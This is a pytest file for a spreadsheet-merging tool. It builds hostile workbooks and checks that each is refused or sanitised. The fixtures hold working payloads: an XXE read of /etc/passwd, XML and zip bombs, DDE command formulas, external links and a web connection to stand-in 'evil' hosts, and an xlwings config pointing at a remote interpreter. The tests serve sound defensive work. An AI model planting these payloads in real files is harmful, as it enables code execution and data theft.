"""A corpus of hostile and broken returns, made here: each is refused or sanitised with a Thai message, and no file
that was on disk changes (hashes before and after)."""

from __future__ import annotations

import io
import os
import signal
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from opplan_xl import schema
from opplan_xl.agency.returned import Refusal, ReturnedForm, read_form
from opplan_xl.cli import main
from opplan_xl.xlsx.read import read_workbook
from opplan_xl.xlsx.write import write_workbook

from .agency_helpers import (
    folder_hashes,
    issue_and_fill,
    keyed_plan,
    merged_rows,
    row,
    set_defined_name,
)
from .helpers import rewrite_zip, sheet_part
from .hostile_corpus import case_twins, formulas, garbage, hidden_characters, huge_budgets, million_rows, string_bomb

Builder = Callable[[Path, Path], Path]  # (folder, a good filled form) → the hostile file


def _copy(good: Path, folder: Path, name: str) -> Path:
    target = folder / name
    target.write_bytes(good.read_bytes())
    return target


# ---- refused -------------------------------------------------------------------------------------------


def wrong_plan(folder: Path, good: Path) -> Path:
    return issue_and_fill(keyed_plan("another plan's key"), [row("ก")], folder, "wrong-plan.xlsx")


def edited_identity(folder: Path, good: Path) -> Path:
    target = _copy(good, folder, "edited-identity.xlsx")
    return rewrite_zip(target, lambda parts: set_defined_name(parts, "_OpPlanForm_agency", "กรมที่ไม่ได้รับแบบฟอร์ม"))


def deleted_identity(folder: Path, good: Path) -> Path:
    wb = openpyxl.load_workbook(good)
    for name in [n for n in wb.defined_names if n.startswith("_OpPlanForm_")]:
        del wb.defined_names[name]
    target = folder / "no-identity.xlsx"
    wb.save(target)
    return target


def zip_bomb(folder: Path, good: Path) -> Path:
    target = _copy(good, folder, "zip-bomb.xlsx")

    def add(parts: dict[str, bytes]) -> None:
        parts["xl/media/image1.png"] = b"\0" * (24 * 1024 * 1024)  # deflates about 1000:1

    return rewrite_zip(target, add)


def xml_bomb(folder: Path, good: Path) -> Path:
    target = _copy(good, folder, "xml-bomb.xlsx")
    lol = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    bomb = f'<?xml version="1.0"?><!DOCTYPE Properties [<!ENTITY l0 "lol">{lol}]><Properties>&l9;</Properties>'

    def add(parts: dict[str, bytes]) -> None:
        parts["docProps/app.xml"] = bomb.encode()

    return rewrite_zip(target, add)


def external_entity(folder: Path, good: Path) -> Path:
    target = _copy(good, folder, "xxe.xlsx")
    xxe = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><sst>&e;</sst>'

    def add(parts: dict[str, bytes]) -> None:
        parts["xl/sharedStrings.xml"] = xxe.encode()

    return rewrite_zip(target, add)


def encrypted(folder: Path, good: Path) -> Path:
    target = folder / "encrypted.xlsx"
    try:
        from msoffcrypto.format.ooxml import OOXMLFile

        with open(good, "rb") as src:
            out = io.BytesIO()
            OOXMLFile(src).encrypt("1234", out)
        target.write_bytes(out.getvalue())
    except ImportError:  # a compound file with the streams an encrypted package has
        from opplan_xl.xlsx.vba.cfb import build_compound_file

        target.write_bytes(
            build_compound_file({"EncryptionInfo": b"\x04\x00\x04\x00" + b"\0" * 60, "EncryptedPackage": b"\0" * 600})
        )
    return target


def renamed_exe(folder: Path, good: Path) -> Path:
    target = folder / "invoice.xlsx"
    target.write_bytes(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 48 + b"PE\0\0" + b"\x90" * 4096)
    return target


def truncated_zip(folder: Path, good: Path) -> Path:
    target = folder / "truncated.xlsx"
    target.write_bytes(good.read_bytes()[:3000])
    return target


def cell_far_away(folder: Path, good: Path) -> Path:
    target = _copy(good, folder, "extent-bomb.xlsx")

    def far(parts: dict[str, bytes]) -> None:
        part = sheet_part(parts, schema.SHEET_PROJECTS)
        xml = parts[part].decode("utf-8")
        i = xml.index("</sheetData>")
        cell = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        parts[part] = (xml[:i] + cell + xml[i:]).encode("utf-8")

    return rewrite_zip(target, far)


def legacy_xls(folder: Path, good: Path) -> Path:
    from opplan_xl.xlsx.vba.cfb import build_compound_file

    target = folder / "old.xlsx"
    target.write_bytes(build_compound_file({"Workbook": b"\x09\x08" + b"\0" * 5000}))
    return target


def not_a_form(folder: Path, good: Path) -> Path:
    target = folder / "someone-elses.xlsx"
    wb = openpyxl.Workbook()
    wb.active.append(["โครงการ", "งบประมาณ"])
    wb.active.append(['=HYPERLINK("http://evil")', 100])
    wb.save(target)
    return target


REFUSED: dict[str, tuple[Builder, str]] = {
    "wrong plan": (wrong_plan, "E-FORM-OTHER-PLAN"),
    "edited identity block": (edited_identity, "E-FORM-IDENTITY-ALTERED"),
    "identity block deleted": (deleted_identity, "E-FORM-NOT-FORM"),
    "zip bomb": (zip_bomb, "E-FORM-UNREADABLE"),
    "XML bomb": (xml_bomb, "E-FORM-UNREADABLE"),
    "external entity": (external_entity, "E-FORM-UNREADABLE"),
    "encrypted": (encrypted, "E-FORM-UNREADABLE"),
    "renamed .exe": (renamed_exe, "E-FORM-UNREADABLE"),
    "truncated zip": (truncated_zip, "E-FORM-UNREADABLE"),
    "cell at XFD1048576": (cell_far_away, "E-FORM-UNREADABLE"),
    "legacy .xls": (legacy_xls, "E-FORM-UNREADABLE"),
    "not a form": (not_a_form, "E-FORM-NOT-FORM"),
}


# ---- issue 12: the corpus of tests/hostile_corpus.py, each class against returns -------------------------------


def _class(gen, name: str) -> Builder:
    def build(folder: Path, good: Path) -> Path:
        return gen(good, folder / name)

    return build


def fifo(folder: Path, good: Path) -> Path:
    target = folder / "pipe.xlsx"
    os.mkfifo(target)
    return target


def dev_zero(folder: Path, good: Path) -> Path:
    target = folder / "zero.xlsx"
    target.symlink_to("/dev/zero")
    return target


def edited_version(folder: Path, good: Path) -> Path:
    target = _copy(good, folder, "version-2.xlsx")
    return rewrite_zip(target, lambda parts: set_defined_name(parts, "_OpPlanForm_version", "2"))


def malformed_version(folder: Path, good: Path) -> Path:
    target = _copy(good, folder, "version-x.xlsx")
    return rewrite_zip(target, lambda parts: set_defined_name(parts, "_OpPlanForm_version", "x"))


ISSUE12_REFUSED: dict[str, tuple[Builder, str, str]] = {  # name → (builder, code, words of the reason)
    "shared-string bomb": (
        _class(lambda s, o: string_bomb(s, o, rows=120), "bomb.xlsx"),
        "E-FORM-UNREADABLE",
        "ตัวอักษร",
    ),
    "a million compact rows": (
        _class(lambda s, o: million_rows(s, o, 150_000), "rows.xlsx"),
        "E-FORM-UNREADABLE",
        "แถว",
    ),
    "a million numbered rows": (
        _class(lambda s, o: million_rows(s, o, 150_000, numbered=True), "rows-r.xlsx"),
        "E-FORM-UNREADABLE",
        "แถว",
    ),
    "two parts differing by case": (_class(case_twins, "twins.xlsx"), "E-FORM-UNREADABLE", "ซ้ำกัน"),
    "a FIFO": (fifo, "E-FORM-UNREADABLE", "ไม่ใช่ไฟล์ธรรมดา"),
    "a link to /dev/zero": (dev_zero, "E-FORM-UNREADABLE", "ไม่ใช่ไฟล์ธรรมดา"),
    "version edited to 2": (edited_version, "E-FORM-IDENTITY-ALTERED", "ถูกแก้ไข"),
    "version edited to x": (malformed_version, "E-FORM-IDENTITY-ALTERED", "ถูกแก้ไข"),
}


@pytest.fixture
def deadline():
    """A hang (a FIFO opened for reading) fails the test instead of stopping the suite."""

    def hung(signum, frame):
        raise TimeoutError("hung")

    old = signal.signal(signal.SIGALRM, hung)
    signal.alarm(60)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, old)


# ---- sanitised: merged, with the dangerous part left behind -----------------------------------------


DDE = "=cmd|' /C calc'!A0"


def formulas_and_dde(folder: Path, good: Path) -> Path:
    plan = read_workbook(folder.parent / "master.xlsx")[0]
    rows = [
        row(DDE, activity="@SUM(1+1)*cmd|'/C calc'!A0", location='=HYPERLINK("http://evil","คลิก")'),
        row("+cmd|' /C notepad'!A0", dev_plan_ref="-2+3+cmd|' /C calc'!A0"),
    ]
    target = issue_and_fill(plan, rows, folder, "formulas.xlsx")

    def formula_cell(parts: dict[str, bytes]) -> None:  # a real formula with a cached value in the budget
        part = sheet_part(parts, schema.SHEET_PROJECTS)
        xml = parts[part].decode("utf-8")
        start = xml.index('<c r="E4"')
        tag_end = xml.index(">", start)
        end = tag_end + 1 if xml[tag_end - 1] == "/" else xml.index("</c>", start) + 4
        cell = "<c r=\"E4\"><f>cmd|'/C calc'!A0*0+1234</f><v>1234</v></c>"
        parts[part] = (xml[:start] + cell + xml[end:]).encode("utf-8")

    return rewrite_zip(target, formula_cell)


def external_links(folder: Path, good: Path) -> Path:
    target = _copy(good, folder, "links.xlsx")
    ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def add(parts: dict[str, bytes]) -> None:
        parts["xl/externalLinks/externalLink1.xml"] = (
            b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main" xmlns:r="' + ns.encode() + b'"><externalBook r:id="rId1"><sheetNames>'
            b'<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
        )
        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"><Relationship Id="rId1" Type="' + ns.encode() + b'/externalLinkPath" '
            b'Target="file:///\\\\evil-server\\share\\steal.xlsx" TargetMode="External"/></Relationships>'
        )
        parts["xl/connections.xml"] = (
            b'<?xml version="1.0" encoding="UTF-8"?><connections xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><connection id="1" name="web" type="4" refreshOnLoad="1">'
            b'<webPr url="http://evil.example/x"/></connection></connections>'
        )
        rels = parts["xl/_rels/workbook.xml.rels"].decode()
        rels = rels.replace(
            "</Relationships>",
            f'<Relationship Id="rIdX1" Type="{ns}/externalLink" Target="externalLinks/externalLink1.xml"/>'
            f'<Relationship Id="rIdX2" Type="{ns}/connections" Target="connections.xml"/></Relationships>',
        )
        parts["xl/_rels/workbook.xml.rels"] = rels.encode()
        wb = parts["xl/workbook.xml"].decode()
        i = wb.index("<definedNames>") if "<definedNames>" in wb else wb.index("<calcPr")
        ref = f'<externalReferences><externalReference xmlns:r="{ns}" r:id="rIdX1"/></externalReferences>'
        wb = wb[:i] + ref + wb[i:]
        parts["xl/workbook.xml"] = wb.encode()
        ct = parts["[Content_Types].xml"].decode()
        ct = ct.replace(
            "</Types>",
            '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
            '<Override PartName="/xl/connections.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>',
        )
        parts["[Content_Types].xml"] = ct.encode()

    return rewrite_zip(target, add)


def macros(folder: Path, good: Path) -> Path:
    target = _copy(good, folder, "macros.xlsx")

    def add(parts: dict[str, bytes]) -> None:
        from opplan_xl.xlsx.vba.cfb import build_compound_file

        parts["xl/vbaProject.bin"] = build_compound_file({"VBA": {"dir": b"\x01" * 64}, "PROJECT": b'ID="{x}"'})
        parts["xl/embeddings/oleObject1.bin"] = b"\0" * 128

    return rewrite_zip(target, add)


def xlwings_conf(folder: Path, good: Path) -> Path:
    wb = openpyxl.load_workbook(good)
    ws = wb.create_sheet("xlwings.conf")
    ws.append(["INTERPRETER_WIN", r"\\evil-server\share\python.exe"])
    ws.append(["PYTHONPATH", r"\\evil-server\share"])
    target = folder / "conf.xlsx"
    wb.save(target)
    return target


SANITISED: dict[str, tuple[Builder, set[str]]] = {
    "formulas and DDE strings": (formulas_and_dde, {"W-FORM-FORMULA-TEXT"}),
    "external links and a web connection": (external_links, {"I-FORM-LINKS-IGNORED"}),
    "macros and an embedded object": (macros, {"I-FORM-MACROS-IGNORED", "I-FORM-OBJECTS-IGNORED"}),
    "an xlwings.conf sheet": (xlwings_conf, {"I-FORM-XLWINGS-CONF-IGNORED"}),
}


# ---- the tests -------------------------------------------------------------------------------------------


@pytest.fixture
def setup(tmp_path: Path) -> tuple[Path, Path, Path]:
    """The master workbook (with a key), a folder of returns, and one good return."""
    book = write_workbook(keyed_plan(), tmp_path / "master.xlsx")
    folder = tmp_path / "inbox"
    good = issue_and_fill(read_workbook(book)[0], [row("โครงการดี", "5000")], folder, "good.xlsx")
    return book, folder, good


def _all_refused() -> dict[str, tuple[Builder, str, str]]:
    """The refused classes: name → (builder, code, words the reason must hold)."""
    return {**{k: (build, code, "") for k, (build, code) in REFUSED.items()}, **ISSUE12_REFUSED}


@pytest.mark.parametrize("case", list(_all_refused()))
def test_hostile_return_is_refused_in_thai_and_nothing_on_disk_changes(setup, case: str, capsys, deadline) -> None:
    book, folder, good = setup
    build, code, words = _all_refused()[case]
    hostile = build(folder, good)
    root = book.parent
    before = folder_hashes(root)

    got = read_form(hostile, read_workbook(book)[0])
    assert isinstance(got, Refusal), (case, got)
    assert [f.code for f in got.findings] == [code], got.findings
    message = got.findings[0].message
    assert message.startswith(f"ไม่รับไฟล์ {hostile.name}") and any("\u0e00" <= ch <= "\u0e7f" for ch in message)
    assert words in message and len(message) < 600  # the reason, and no value quoted whole

    out = root / "out.xlsx"
    assert main(["merge", str(book), str(hostile), "-o", str(out)]) == 2
    printed = capsys.readouterr().out
    assert f"ไม่รับไฟล์ {hostile.name}" in printed and len(printed) < 5000
    assert not out.exists()
    assert folder_hashes(root) == before


@pytest.mark.parametrize("case", list(SANITISED))
def test_hostile_content_is_left_behind_and_said(setup, case: str, capsys) -> None:
    book, folder, good = setup
    build, codes = SANITISED[case]
    hostile = build(folder, good)
    root = book.parent
    before = folder_hashes(root)

    got = read_form(hostile, read_workbook(book)[0])
    assert isinstance(got, ReturnedForm), (case, getattr(got, "findings", None))
    found = {f.code for f in (*got.notes, *got.findings)}
    assert codes <= found, found

    out = root / "out.xlsx"
    assert main(["merge", str(book), str(hostile), "-o", str(out)]) in (0, 1)
    printed = capsys.readouterr().out
    assert any(f.message in printed for f in got.notes + got.findings if f.code in codes)
    after = folder_hashes(root)
    assert {k: after[k] for k in before} == before
    assert set(after) - set(before) == {"out.xlsx"}

    with zipfile.ZipFile(out) as z:
        names = [n.lower() for n in z.namelist()]
    assert not [n for n in names if "vba" in n or "externallink" in n or "connections" in n or "embeddings" in n]
    wb = openpyxl.load_workbook(out)
    assert "xlwings.conf" not in wb.sheetnames
    formulas = [
        c.coordinate
        for r in wb[schema.SHEET_PROJECTS].iter_rows(min_row=schema.PROJECTS.header_row + 1)
        for c in r
        if c.data_type == "f"
    ]
    assert formulas == []
    merged = merged_rows(read_workbook(out)[0])
    assert merged and all(p.origin_agency for p in merged)


def test_dde_strings_arrive_as_the_text_that_was_typed(setup) -> None:
    book, folder, good = setup
    got = read_form(formulas_and_dde(folder, good), read_workbook(book)[0])
    assert isinstance(got, ReturnedForm)
    first, second = got.projects
    assert first.name == DDE and first.location == '=HYPERLINK("http://evil","คลิก")'
    assert second.name == "+cmd|' /C notepad'!A0"
    assert str(first.budget) == "1234.00"  # the formula's cached value, never the formula


def _read(setup, gen, name: str) -> tuple[Path, Path, dict[str, str], ReturnedForm]:
    """Build one class of the corpus as a return and read it: (master, form, hashes before, the return)."""
    book, folder, good = setup
    form = gen(good, folder / name)
    before = folder_hashes(book.parent)
    got = read_form(form, read_workbook(book)[0])
    assert isinstance(got, ReturnedForm), getattr(got, "findings", None)
    return book, form, before, got


def _merge(book: Path, form: Path, before: dict[str, str], capsys) -> tuple[int, str]:
    """``opplan merge`` of the form: (exit code, printed); no file that was there before has changed."""
    root = book.parent
    code = main(["merge", str(book), str(form), "-o", str(root / "out.xlsx")])
    after = folder_hashes(root)
    assert {k: after[k] for k in before} == before
    return code, capsys.readouterr().out


def test_long_shared_strings_under_the_limit_are_quoted_by_a_prefix(setup, capsys) -> None:
    book, form, before, got = _read(setup, lambda s, o: string_bomb(s, o, rows=3), "long.xlsx")
    assert len(got.projects) == 3
    assert all(len(f.message) < 800 for f in got.findings)
    assert "…(ยาว 32,767 ตัวอักษร)" in "\n".join(f.message for f in got.findings)
    code, printed = _merge(book, form, before, capsys)
    assert code in (0, 1) and len(printed) < 20_000  # was hundreds of MB for 4,000 such rows


def test_formulas_in_a_return_are_read_by_value_or_said(setup, capsys) -> None:
    book, form, before, got = _read(setup, formulas, "formulas.xlsx")
    assert len(got.projects) == 3  # the row made only of formulas is counted, not dropped
    by_cell = {(f.code, f.cell): f for f in got.findings}
    no_value = by_cell[("E-CELL-FORMULA-NO-VALUE", "E4")]
    assert "=100000*2" in no_value.message and "พิมพ์ตัวเลขแทนสูตร" in no_value.message
    assert ("E-CELL-FORMULA-NO-VALUE", "C5") in by_cell and ("E-CELL-FORMULA-NO-VALUE", "E5") in by_cell
    assert [f.code for f in got.findings if f.cell == "E4"] == ["E-CELL-FORMULA-NO-VALUE"]  # not "not filled"
    assert ("I-CELL-FORMULA-VALUE", "E6") in by_cell and ("I-CELL-FORMULA-VALUE", "C6") in by_cell
    first, _, third = got.projects
    assert first.budget is None and third.budget == Decimal("200000.00") and third.name == "ถนนสายใหม่"
    code, printed = _merge(book, form, before, capsys)
    assert code == 1 and "พิมพ์ตัวเลขแทนสูตร" in printed


def test_garbage_cells_are_findings_never_values(setup, capsys) -> None:
    book, form, before, got = _read(setup, garbage, "garbage.xlsx")
    cells = {(f.code, f.cell) for f in got.findings}
    for cell in ("C4", "C5", "C6"):
        assert ("E-CELL-BAD-STRING", cell) in cells
    assert ("E-CELL-NOT-FINITE", "E7") in cells and ("E-CELL-NOT-FINITE", "E8") in cells
    assert ("E-EXCEL-CELL-TEXT", "C9") in cells  # whole, not cut to 32,767 in silence
    assert ("E-BUDGET-TOO-LARGE", "E10") in cells
    names = [p.name for p in got.projects]
    assert "ศูนย์" not in names  # a bad index is not string 0
    assert [p.budget for p in got.projects[3:5]] == [None, None]  # NaN and inf are not 0
    assert _merge(book, form, before, capsys)[0] == 1


def test_implausible_budgets_are_errors_and_do_not_add_up(setup, capsys) -> None:
    book, form, before, got = _read(setup, huge_budgets, "huge.xlsx")
    assert [f.cell for f in got.findings if f.code == "E-BUDGET-TOO-LARGE"] == [f"E{r}" for r in range(4, 11)]
    assert all(p.budget is None for p in got.projects)
    assert _merge(book, form, before, capsys)[0] == 1


def test_invisible_characters_in_a_name_are_reported(setup, capsys) -> None:
    book, form, before, got = _read(setup, hidden_characters, "hidden.xlsx")
    hidden = [f for f in got.findings if f.code == "W-FORM-HIDDEN-CHARS"]
    assert [f.cell for f in hidden] == ["C4"] and "U+202E" in hidden[0].message and "U+200B" in hidden[0].message
    code, printed = _merge(book, form, before, capsys)
    assert code in (0, 1) and "U+202E" in printed
